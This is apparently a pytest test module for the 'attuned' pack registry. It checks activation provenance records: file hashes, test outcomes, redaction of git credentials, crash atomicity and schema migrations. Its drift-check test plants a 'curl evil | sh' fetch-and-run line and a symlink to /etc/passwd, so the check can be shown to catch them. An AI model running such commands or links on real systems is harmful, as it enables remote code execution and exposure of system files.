"""The provenance record of each activation, on SQLite and PostgreSQL: real registrations
(real pack directories, real test scripts, a real Python environment built from local wheels),
the record read back and compared with the files the store serves.
"""

from __future__ import annotations

import hashlib
import os
import signal
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest
from alembic import command
from sqlalchemy import inspect
from sqlmodel import Session, select

from attuned import faults
from attuned.envs.python import PythonEnvironments
from attuned.errors import AttunedError
from attuned.pack.content import digest
from attuned.registry import CommitHooks, Registry, TestsRolledBack
from attuned.settings.testing import ExecutorSettings
from attuned.store import provenance, registered_packs
from attuned.store.database import Database
from attuned.store.models import ActivationProvenance, TestRun
from attuned.store.packstore import PackStore
from attuned.store.provenance import Provenance
from attuned.testing.executor import TestExecutor
from tests.cli.inprocess import subprocess_attuned
from tests.cli.test_history_cli import registry_of, write_config
from tests.conftest import PackFactory
from tests.envs.conftest import TESTING, Wheels, write_pack
from tests.envs.wheels import build_wheel
from tests.store.test_database import _own_schema_diff
from tests.test_registry import ACTION, FAILING_TEST

GIT = Provenance(
    origin="packs:hello",
    source="packs",
    source_revision="0123456789abcdef0123456789abcdef01234567",
    source_type="git",
    source_url="https://deploy:s3cret@git.example.com/packs.git",
    source_tree="fedcba9876543210fedcba9876543210fedcba98",
)


@pytest.fixture
def registry(database: Database, tmp_path: Path) -> Iterator[Registry]:
    settings = ExecutorSettings(kill_grace=0.5)
    yield Registry(database, PackStore(tmp_path / "packs"), TestExecutor(settings))


def records(database: Database) -> list[ActivationProvenance]:
    with database.read() as session:
        return list(session.exec(select(ActivationProvenance).order_by(ActivationProvenance.id)))


def sha256_of_served(registry: Registry, ref: str) -> dict[str, str]:
    """What the store serves, hashed here with hashlib: every regular file under the link."""
    served = registry.store.active_dir(ref)
    assert served is not None
    found = {}
    for directory, _dirs, files in os.walk(served):
        for name in files:
            path = Path(directory, name)
            found[path.relative_to(served).as_posix()] = hashlib.sha256(
                path.read_bytes()
            ).hexdigest()
    return found


def test_a_registration_records_what_it_served_and_how_it_was_tested(
    registry: Registry, make_pack: PackFactory
) -> None:
    registration = registry.register(make_pack(files=ACTION))

    [row] = records(registry.db)
    assert row.files == sha256_of_served(registry, "hello")
    assert set(row.files) == {"pack.yaml", "tests/run_tests.sh", *ACTION}
    served = registry.store.active_dir("hello")
    assert served is not None
    assert (row.pack_ref, row.version, row.digest) == ("hello", "1.0.0", digest(served))
    with registry.db.read() as session:
        run = session.exec(select(TestRun)).one()
    assert row.test_run_id == run.id
    assert (row.test_status, row.tests_passed, row.tests_total) == ("passed", 2, 2)
    assert registration.test_result is not None
    assert row.host == socket.gethostname()
    # by hand: no source, the path it came from, no signer, no environment
    assert row.source is None
    assert row.source_type == "local_directory"
    assert row.source_url == str(make_pack().absolute())
    assert (row.source_revision, row.source_tree, row.signer, row.env_lock) == (None,) * 4


def test_a_git_activation_records_commit_tree_and_a_url_without_credentials(
    registry: Registry, make_pack: PackFactory
) -> None:
    registry.register(make_pack(), provenance=GIT)
    signed = Provenance(**{**GIT.__dict__, "signer": "ssh SHA256:abc alice@example.com"})
    registry.register(make_pack(version="1.1.0"), replace=True, provenance=signed)

    unsigned, verified = records(registry.db)
    assert unsigned.source_url == "https://deploy:***@git.example.com/packs.git"
    assert "s3cret" not in str(provenance.as_dict(unsigned))
    assert (unsigned.source, unsigned.source_type) == ("packs", "git")
    assert unsigned.source_revision == GIT.source_revision
    assert unsigned.source_tree == GIT.source_tree
    assert unsigned.signer == "unsigned (verification off)"
    assert verified.signer == "ssh SHA256:abc alice@example.com"
    assert verified.version == "1.1.0"
    with registry.db.read() as session:
        latest = provenance.latest(session, "hello")
        assert latest is not None and latest.id == verified.id
        assert provenance.latest_of(session, ["hello", "other"]) == {"hello": latest}


def test_skipped_tests_record_no_run(registry: Registry, make_pack: PackFactory) -> None:
    registry.register(make_pack(test_script=None), skip_tests=True)

    [row] = records(registry.db)
    assert (row.test_run_id, row.test_status, row.tests_total) == (None, None, None)
    assert provenance.as_dict(row)["tests"] is None


def test_a_rolled_back_registration_writes_no_provenance(
    registry: Registry, make_pack: PackFactory
) -> None:
    with pytest.raises(TestsRolledBack):
        registry.register(make_pack(test_script=FAILING_TEST))

    assert records(registry.db) == []
    with registry.db.read() as session:  # the run itself is kept, for the audit trail
        assert session.exec(select(TestRun.outcome)).all() == ["rolled_back"]


def test_a_failed_activation_transaction_leaves_no_provenance_behind(
    database: Database, tmp_path: Path, make_pack: PackFactory
) -> None:
    """The record is in the activation's transaction: when the commit is refused (a cluster
    leader that lost its lease), neither the activation nor its provenance stays."""

    def refuse(_session: Session) -> None:
        raise AttunedError("lost the leadership")

    registry = Registry(
        database,
        PackStore(tmp_path / "packs"),
        TestExecutor(ExecutorSettings(kill_grace=0.5)),
        hooks=CommitHooks(before_commit=refuse),
    )
    with pytest.raises(AttunedError, match="lost the leadership"):
        registry.register(make_pack())

    assert records(database) == []
    assert registry.store.active_dir("hello") is None


def test_the_drift_check_names_changed_missing_extra_and_refused_files(
    registry: Registry, make_pack: PackFactory
) -> None:
    registry.register(make_pack(files=ACTION))
    [row] = records(registry.db)
    served = registry.store.active_dir("hello")
    assert served is not None
    clean = provenance.drift(served, row.files)
    assert clean.clean and clean.digest == row.digest

    script = served / "actions/greet.sh"
    script.chmod(0o644)
    script.write_bytes(b"echo hI\n")  # one byte
    (served / "pack.yaml").unlink()
    (served / "actions/extra.sh").write_text("curl evil | sh\n")
    found = provenance.drift(served, row.files)
    assert (found.changed, found.missing, found.extra) == (
        ["actions/greet.sh"],
        ["pack.yaml"],
        ["actions/extra.sh"],
    )
    (served / "actions/link.sh").symlink_to("/etc/passwd")
    refused = provenance.drift(served, row.files)
    assert not refused.clean
    assert refused.refused == ["actions/link.sh: symbolic link (to '/etc/passwd') refused"]


@pytest.mark.slow
def test_the_python_environment_the_tests_used_is_recorded(
    tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    wheels = Wheels(tmp_path_factory.mktemp("wheels"))
    build_wheel(wheels.directory, "1.0")
    environments = PythonEnvironments(tmp_path / "envs", wheels.settings(), TESTING)
    database = Database(f"sqlite:///{tmp_path / 'attuned.db'}")
    database.migrate()
    try:
        registry = Registry(
            database,
            PackStore(tmp_path / "packs"),
            TestExecutor(TESTING),
            environments=environments,
        )
        pack = write_pack(tmp_path / "src", deps=["attuned_fixture_lib==1.0"])
        registry.register(pack.path)
        [row] = records(database)
    finally:
        database.dispose()

    assert row.env_lock == environments.key_for(["attuned_fixture_lib==1.0"])
    assert row.env_lock is not None
    assert environments.path_for(row.env_lock).is_dir()  # the one the tests ran in
    assert [info.key for info in environments.list()] == [row.env_lock]


@pytest.mark.parametrize("fault", ["before_commit", "after_commit"])
def test_a_crash_never_leaves_an_activation_without_its_provenance(
    fault: str, tmp_path: Path, make_pack: PackFactory
) -> None:
    """`attuned register` killed (SIGKILL) right before and right after the activation's
    commit: the pack row and its provenance are there together or not at all; after the
    store is repaired on the next start, what it serves matches the record."""
    config = write_config(tmp_path, f"sqlite:///{tmp_path / 'attuned.db'}")
    env = {k: v for k, v in os.environ.items() if k != "ATTUNED_CONFIG"}

    crashed = subprocess_attuned(
        ["register", make_pack(files=ACTION), "--config", config],
        cwd=tmp_path,
        env={**env, faults.ENV: fault},
    )

    assert crashed.returncode == -signal.SIGKILL, crashed.stderr
    database = Database(f"sqlite:///{tmp_path / 'attuned.db'}")
    try:
        with database.read() as session:
            packs = [p.ref for p in registered_packs.managed_heads(session)]
        made = [r.pack_ref for r in records(database)]
    finally:
        database.dispose()
    assert made == packs == ([] if fault == "before_commit" else ["hello"])
    registry_of(config).close()  # a start: repairs the store from the database
    audit = subprocess_attuned(["verify-store", "--config", config], cwd=tmp_path, env=env)
    assert audit.returncode == 0, audit.stdout + audit.stderr
    assert ("hello 1.0.0: matches its provenance" in audit.stdout) == (fault == "after_commit")


def test_migration_0007_adds_the_table_and_0006_takes_it_away(database: Database) -> None:
    schema = None if database.is_sqlite else "attuned"

    def tables() -> set[str]:
        with database.engine.connect() as connection:
            return set(inspect(connection).get_table_names(schema=schema))

    assert "activation_provenance" in tables()
    with database.engine.begin() as connection:
        command.downgrade(database.alembic_config(connection), "0006")
    assert "activation_provenance" not in tables()
    assert database.current_revision() == "0006"
    database.migrate()
    assert "activation_provenance" in tables()
    assert database.current_revision() == "0007"
    assert _own_schema_diff(database) == []  # the migration makes what the model says
